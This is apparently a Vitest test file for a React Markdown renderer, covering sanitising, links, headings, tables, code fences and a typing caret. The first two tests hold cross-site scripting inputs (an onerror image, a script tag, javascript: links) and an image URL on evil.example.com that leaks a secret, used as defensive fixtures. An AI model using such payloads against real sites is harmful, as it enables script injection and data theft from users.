import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string, caret = false) => renderToStaticMarkup(<Markdown text={text} caret={caret} />);

it("HTML stays text, and links that run code lose their address", () => {
  const evil =
    "<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)";
  expect(html(evil)).not.toMatch(/<img|<script|href="[^"]/);
});

it("nothing is loaded from another server", () => {
  const remote = html(
    "![pixel](https://evil.example.com/a.gif?talk=secret)\n\n![x](//evil.example.com/b.gif)",
  );
  expect(remote).not.toMatch(/<img|src=/);
  expect(remote).toContain("evil.example.com");
});

it("a picture that came as data is drawn", () => {
  expect(html("![dot](data:image/png;base64,AAAA)")).toContain('src="data:image/png;base64,AAAA"');
});

it("links leave the page without telling where from, footnotes stay on it", () => {
  expect(html("[a](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer"');
  const note = html("One[^1].\n\n[^1]: Two.");
  expect(note).not.toContain("_blank");
  expect(note.match(/id="([^"]+fn-1)"/)?.[1]).toBe(note.match(/href="#([^"]+fn-1)"/)?.[1]);
});

it("headings begin below those of the page", () => {
  expect(html("# A\n\n###### B")).toMatch(/<h3[^>]*>A<\/h3>\s*<h6[^>]*>B<\/h6>/);
});

it("tables, tasks and struck words are GitHub's", () => {
  expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toMatch(/<table.*text-align:right/);
  expect(html("- [x] done")).toContain('type="checkbox"');
  expect(html("~~no~~")).toContain("<del>no</del>");
});

it("code in a fence keeps its text and names its language; code in a line is a chip", () => {
  const fence = html('```ts\nconst a = "<b>";\n```');
  expect(fence).toContain("TypeScript");
  expect(fence).toContain("const a = &quot;&lt;b&gt;&quot;;");
  expect(html("a `b` c")).toMatch(/<code class="[^"]*bg-fill[^"]*">b<\/code>/);
});

it("the caret stands after the last word, wherever that is", () => {
  expect(html("One two", true)).toMatch(/two<span class="caret"><\/span><\/p>/);
  expect(html("- One\n- Two\n  - Three", true)).toMatch(/Three<span class="caret"><\/span><\/li>/);
  expect(html("", true)).toContain('<span class="caret"></span>');
  expect(html("One two")).not.toContain("caret");
});
